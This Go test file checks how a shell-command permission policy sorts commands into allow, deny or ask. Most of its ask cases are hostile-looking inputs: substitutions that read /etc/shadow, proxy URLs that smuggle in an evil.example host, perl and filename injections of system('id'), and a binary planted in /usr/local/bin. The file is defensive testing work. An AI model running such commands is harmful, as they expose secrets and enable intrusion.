package shell_test

import (
	"testing"

	"mycelium/internal/policy"
)

// TestWhatOneCommandWrites: hashes, numbers, dates and names that one command writes are known to another where they are text, and nothing
// else is.
func TestWhatOneCommandWrites(t *testing.T) {
	decide(t, policy.Allow,
		`git show $(git rev-parse HEAD~1)`,
		`base=$(git merge-base HEAD main) && git diff --stat $base`,
		`git log --format=%H -n 3 | xargs -n1 git show --stat`,
		`BRANCH=$(git branch --show-current); git log main..$BRANCH --oneline`,
		`docker logs --tail 50 $(docker ps -q --filter name=api)`,
		`POD=$(kubectl get pod -l app=api -o jsonpath='{.items[0].metadata.name}'); kubectl logs $POD`,
		`gh run view $(gh run list --limit 1 --json databaseId --jq '.[0].databaseId')`,
		`tar czf /tmp/backup-$(date +%Y%m%d).tgz src`,
		`for i in $(seq 1 3); do curl -s localhost:8080/$i; done`,
		`tmp=$(mktemp -d) && cp -r src "$tmp" && rm -rf "$tmp"`,
		`f=$(ls -t *.log | head -1); tail -20 "$f"`,
		`while read -r f; do ls -l "$f"; done < <(git ls-files '*.sh')`,
		`mapfile -t files < <(git ls-files '*.go'); wc -l "${files[@]}"`,
		`printf '%s\n' src/*.go | xargs -n1 gofmt -l`,
		`go build -ldflags "-X main.version=$(git describe --tags)" ./...`,
	)
	decide(t, policy.Deny, // the folder has a name that is not known, and in such a folder a secret may lie
		`rm -rf "$(mktemp -d /tmp/none/x.XXXX)"/*`,
	)
	decide(t, policy.Ask,
		`git show $(git log -1 --format=%an)`,
		`git log $(git branch --show-current)`,
		`git show $(git rev-parse HEAD && head <<< --output=/home/u/x)`,
		`git show "HEAD:$F"`,
		`rm -rf ./$(git rev-parse --short HEAD)`,
		`cat $(ls nothing)/etc/shadow`,
		`cat $(ls && head <<< /etc/shadow)`,
		`f=$(ls nothing); cat "$f"/etc/shadow`,
		`mapfile -t a < <(ls nothing); cat "${a[0]}/etc/shadow"`,
		`while read f; do :; done < <(ls); cat $f/etc/shadow`,
		`cat $(seq 2 1)/etc/shadow`,
		`TMPDIR=/home/u/x; rm -rf $(mktemp -d)`,
		`docker logs $(docker ps --format '{{.Command}}')`,
		`cat $(date +%D)`,
		`f=$(ls nothing); cat ${f:-/etc/x}`,
		`cp evil /usr/local/bin/x $(ls -d nothing)`,
		`awk $(ls nothing) 'BEGIN{system("id")}'`,
		`kill $!1`,
	)
}

// TestServersOfThisMachine: the project's own code may be told of a server of this machine, and of no other.
func TestServersOfThisMachine(t *testing.T) {
	decide(t, policy.Allow,
		`npm run dev -- --proxy http://localhost:3000`,
		`yarn dev --proxy http://localhost:3000`,
		`./scripts/smoke.sh http://localhost:8080`,
		`make smoke URL=http://127.0.0.1:3000`,
		`curl -s "http://localhost:3000/api/users/$ID"`,
		`python3 -m http.server 8000 --bind 127.0.0.1`,
	)
	decide(t, policy.Ask,
		`npm run dev -- --proxy http://localhost:3000@evil.example/`,
		`npm run dev -- --proxy 'http://localhost:3000\@evil.example'`,
		`npm run dev -- http://localhost:3000,https://evil.example`,
		`npm install http://localhost:4873/x.tgz`,
		`deno run http://localhost:8000/x.ts`,
		`./scripts/smoke.sh "http://localhost:$PORT"`,
		`./scripts/smoke.sh http://localhost:8420/`,
		`curl "http://localhost$X/api"`,
		`curl http://localhost:3000/$X`,
		`python3 -m http.server 8000`,
	)
}

// TestIdiomsOfTheShell: jobs that the command itself began, read with its own IFS, and perl as sed.
func TestIdiomsOfTheShell(t *testing.T) {
	decide(t, policy.Allow,
		`node server.js & SERVER=$!; sleep 1; kill $SERVER`,
		`ls -1 | while IFS= read -r f; do stat -c %s "$f"; done`,
		`find . -name '*.md' -print0 | while IFS= read -r -d '' f; do wc -w "$f"; done`,
		`perl -pi -e 's/foo/bar/g' src/a.ts`,
		`perl -ne 'print if /^\s*#/' a.conf`,
		`bazel build //src/...`,
		`trivy --version`,
	)
	decide(t, policy.Ask,
		`node server.js & SERVER=$!; read SERVER; kill $SERVER`,
		`while read -r f; do IFS=/; cat $f; done < list`,
		`perl -pe 's/a/system("id")/e' f`,
		`perl -pe 's/a/$0{system("id")}/' f`,
		`perl -ne 'print if /@{[system("id")]}/' f`,
		`perl -pe 's/a/b/' '|id'`,
		`bazel build //../../home/u/x`,
		`deploy-prod --version`,
	)
}

// decide checks what the shipped policy decides about commands.
func decide(t *testing.T, want policy.Effect, commands ...string) {
	t.Helper()
	p, scope := shippedPolicy(t)
	for _, command := range commands {
		if got := p.Decide(bashCall(scope, command)); got.Effect != want {
			t.Errorf("%s: %v (%s), want %v", command, got.Effect, got.Reason, want)
		}
	}
}
